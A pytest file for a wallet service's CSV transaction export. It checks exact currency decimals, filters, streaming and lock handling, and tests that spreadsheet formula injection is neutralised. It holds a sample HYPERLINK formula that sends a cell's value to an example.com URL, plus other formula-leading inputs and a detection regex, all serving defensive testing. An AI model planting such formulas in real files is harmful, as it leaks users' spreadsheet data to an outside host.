"""A wallet's transactions as CSV: exact, whole, safe in a spreadsheet, and streamed."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from flask.testing import FlaskClient
from hypothesis import example, given
from hypothesis import strategies as st

from tests.answers import NOBODY, assert_problem
from tests.ledgers import FULL, SECOND, Clock, made, new_service, open_wallet
from tests.watched_locks import WatchedLock
from wallet_app import create_app
from wallet_app.api.incoming.fields import Description
from wallet_app.api.outgoing.csv_answers import (
    ROWS_PER_CHUNK,
    csv_chunks,
    never_a_formula,
)
from wallet_app.domain.currencies import decimal_text
from wallet_app.domain.transactions import Transaction
from wallet_app.services.service import WalletService

HEADER = [
    "id",
    "createdAt",
    "type",
    "amount",
    "amountDecimal",
    "currency",
    "balanceAfter",
    "balanceAfterDecimal",
    "referenceId",
    "category",
    "description",
]
HYPERLINK = '=HYPERLINK("http://example.com?q="&A1, "Free money, 🎁")\r\nnext line'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def exported(client: FlaskClient, wallet_id: str, query: str = "") -> list[list[str]]:
    """Return the rows of an export, without the header."""
    response = client.get(f"/wallet/{wallet_id}/transactions.csv{query}")
    assert response.status_code == 200
    header, *rows = rows_of(response.data.decode())
    assert header == HEADER
    return rows


def test_an_export_is_a_file_of_all_transactions_latest_first(
    client: FlaskClient, service: WalletService
) -> None:
    source, target = open_wallet(service, 12_345), open_wallet(service)
    service.deduct(source, 100, "food", "Lunch, with Mei")
    sent, _ = made(service.transfer(source, target, 45))
    response = client.get(f"/wallet/{source}/transactions.csv")
    assert response.content_type == "text/csv; charset=utf-8; header=present"
    name = f'attachment; filename="transactions-{source}.csv"'
    assert response.headers["Content-Disposition"] == name
    lines = response.data.decode().split("\r\n")
    assert lines[0] == ",".join(HEADER)
    assert lines[-1] == "" and len(lines) == 5
    time, reference = "2026-01-01T00:00:00.000Z", str(sent.reference_id)
    assert [row[1:] for row in exported(client, source)] == [
        [time, "TRANSFER_OUT", "45", "0.45", "INR", "12200", "122.00", reference]
        + ["", ""],
        [time, "DEBIT", "100", "1.00", "INR", "12245", "122.45", "", "food"]
        + ["Lunch, with Mei"],
        [time, "CREDIT", "12345", "123.45", "INR", "12345", "123.45", "", "", ""],
    ]
    page = client.get(f"/wallet/{source}/transactions").get_json()["transactions"]
    assert [row[0] for row in exported(client, source)] == [each["id"] for each in page]


def test_a_wallet_without_transactions_is_a_header(
    client: FlaskClient, service: WalletService
) -> None:
    assert exported(client, open_wallet(service)) == []


@pytest.mark.parametrize(
    ("amount", "currency", "text"),
    [
        (500, "JPY", "500"),
        (0, "JPY", "0"),
        (12_345, "INR", "123.45"),
        (5, "INR", "0.05"),
        (0, "INR", "0.00"),
        (5, "BHD", "0.005"),
        (1_000, "BHD", "1.000"),
        (-5, "INR", "-0.05"),
        (-12_345, "BHD", "-12.345"),
        (-7, "JPY", "-7"),
        (2**53 - 1, "INR", "90071992547409.91"),
        (1, "CLF", "0.0001"),
    ],
)
def test_a_decimal_is_exact_to_the_last_minor_unit(
    amount: int, currency: str, text: str
) -> None:
    assert decimal_text(amount, currency) == text


def test_each_currency_is_exported_with_its_minor_digits(
    client: FlaskClient, service: WalletService
) -> None:
    for currency, text in (
        ("JPY", "1234567"),
        ("INR", "12345.67"),
        ("BHD", "1234.567"),
    ):
        wallet_id = open_wallet(service, 1_234_567, currency=currency)
        ((*_, amount, decimal, _, _, after, _, _, _),) = exported(client, wallet_id)
        assert (amount, decimal, after) == ("1234567", text, text)


def test_the_filters_of_the_list_hold_for_the_export() -> None:
    clock = Clock()
    service = new_service(clock=clock)
    client = create_app(service).test_client()
    wallet_id = open_wallet(service, 100)
    for amount, category in ((1, "food"), (2, "rent"), (3, "food")):
        clock.now += SECOND
        service.deduct(wallet_id, amount, category)
    for query, amounts in (
        ("?type=CREDIT", ["100"]),
        ("?category=food", ["3", "1"]),
        ("?from=2026-01-01T00:00:02Z", ["3", "2"]),
        ("?to=2026-01-01T00:00:02Z&type=DEBIT", ["1"]),
        ("?from=2026-01-01T00:00:01Z&to=2026-01-01T00:00:03Z", ["2", "1"]),
    ):
        assert [row[3] for row in exported(client, wallet_id, query)] == amounts


def unescaped(cell: str) -> str:
    """Return what was written, as the documentation says."""
    return cell.removeprefix("'")


FORMULA = re.compile(r"\s*[=+\-@\t\r＝＋－＠]")

descriptions = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cc"])
    | st.sampled_from("=+-@'\"\t\r\n ,;|＝＋－＠\u00a0\u2003🎁"),
    max_size=500,
)


@given(descriptions)
@example(HYPERLINK)
@example("'quoted'")
@example("\t=1")
@example(" \n@SUM(A1)")
def test_every_description_survives_and_none_is_a_formula(description: str) -> None:
    assert Description().deserialize(description) == description
    service = new_service()
    wallet_id = open_wallet(service)
    service.add(wallet_id, 1, None, description)
    text = b"".join(csv_chunks(service.export_history(wallet_id))).decode()
    _, row = rows_of(text)
    assert unescaped(row[-1]) == description
    assert not FORMULA.match(row[-1])


def test_what_cannot_be_taken_for_a_formula_is_left_as_it_is() -> None:
    for text in ("Lunch", "3 - 2 = 1", "a@b.example", "", "½", "１＋１"):
        assert never_a_formula(text) == text


def test_a_hyperlink_survives_over_http(
    client: FlaskClient, service: WalletService
) -> None:
    wallet_id = open_wallet(service)
    body = {"walletId": wallet_id, "amount": 1, "description": HYPERLINK}
    assert client.post("/wallet/add", json=body).status_code == 200
    ((*_, cell),) = exported(client, wallet_id)
    assert cell == f"'{HYPERLINK}"


def test_what_comes_after_an_export_began_is_not_in_it(service: WalletService) -> None:
    wallet_id = open_wallet(service, 1_000)
    chunks = csv_chunks(service.export_history(wallet_id))

    service.add(wallet_id, 1)
    with pytest.raises(RuntimeError):
        service.money.add(wallet_id, 2, on_commit=FULL)
    _, only = rows_of(b"".join(chunks).decode())
    assert only[3] == "1000"


class WatchedHistory(list[Transaction]):
    """A history that counts how many of its transactions were read."""

    read = 0

    def __getitem__(self, position: Any) -> Any:
        self.read += 1
        return super().__getitem__(position)

    def __iter__(self) -> Any:
        raise AssertionError("it may only be read as far as was committed")


def test_an_export_is_read_as_slowly_as_the_client_reads(
    service: WalletService,
) -> None:
    wallet_id = open_wallet(service)
    for _ in range(3 * ROWS_PER_CHUNK):
        service.add(wallet_id, 1)
    wallet = service.store.readable[wallet_id]
    wallet.history = history = WatchedHistory(wallet.history)
    response = (
        create_app(service).test_client().get(f"/wallet/{wallet_id}/transactions.csv")
    )
    chunks = iter(response.iter_encoded())
    assert history.read <= ROWS_PER_CHUNK
    next(chunks)
    assert history.read <= ROWS_PER_CHUNK
    next(chunks)
    assert ROWS_PER_CHUNK < history.read <= 2 * ROWS_PER_CHUNK
    rest = b"".join(chunks).decode()
    assert len(rows_of(rest)) == 3 * ROWS_PER_CHUNK + 1 - 2 * ROWS_PER_CHUNK
    assert history.read == 3 * ROWS_PER_CHUNK


def test_no_lock_is_held_while_a_client_reads() -> None:
    held: list[WatchedLock] = []
    service = new_service(lock_factory=lambda: WatchedLock(held))
    client = create_app(service).test_client()
    wallet_id = open_wallet(service)
    for _ in range(2 * ROWS_PER_CHUNK):
        service.add(wallet_id, 1)
    response = client.get(f"/wallet/{wallet_id}/transactions.csv")
    chunks = response.iter_encoded()
    next(iter(chunks))
    assert held == []
    service.deduct(wallet_id, 1)
    response.close()


@pytest.mark.parametrize(
    "query",
    ["limit=5", "page=1", f"before={NOBODY}", "type=X", "category=Food", "from=today"]
    + ["from=2026-01-01T00:00:00", "type=DEBIT&type=CREDIT"],
)
def test_an_export_of_the_wrong_query_is_refused(
    client: FlaskClient, service: WalletService, query: str
) -> None:
    response = client.get(f"/wallet/{open_wallet(service)}/transactions.csv?{query}")
    assert_problem(response, 400, "invalid_request")


@pytest.mark.parametrize("year", ["0001", "9999"])
def test_a_time_at_the_edge_of_the_calendar_is_read_or_refused(
    client: FlaskClient, service: WalletService, year: str
) -> None:
    path = f"/wallet/{open_wallet(service)}"
    early = f"{year}-01-01T00:00:00%2B14:00"
    late = f"{year}-12-31T23:59:59-12:00"
    for time in (early, late):
        for name in ("transactions", "transactions.csv", "summary"):
            response = client.get(f"{path}/{name}?from={time}")
            assert response.status_code in (200, 400), response.text
